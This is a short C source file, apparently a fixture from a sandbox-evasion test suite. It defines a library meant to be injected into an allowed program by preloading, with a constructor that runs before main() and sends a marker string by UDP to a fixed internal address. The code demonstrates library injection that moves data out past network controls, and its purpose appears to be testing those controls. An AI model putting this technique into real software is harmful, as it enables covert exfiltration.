// SPDX-License-Identifier: BSD-2-Clause
/* A library that the attempt "preload" brings into the allowed program: sends the mark before main(). */
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void intrude(void)
{
	const char *mark = getenv("EVASION_MARK"), *port = getenv("EVASION_TO");
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((uint16_t)atoi(port ? port : "0")),
				  .sin_addr.s_addr = inet_addr("10.91.0.2") };

	if (mark)
		(void)sendto(socket(AF_INET, SOCK_DGRAM, 0), mark, strlen(mark), 0,
			     (struct sockaddr *)&to, sizeof(to));
	_exit(0);
}
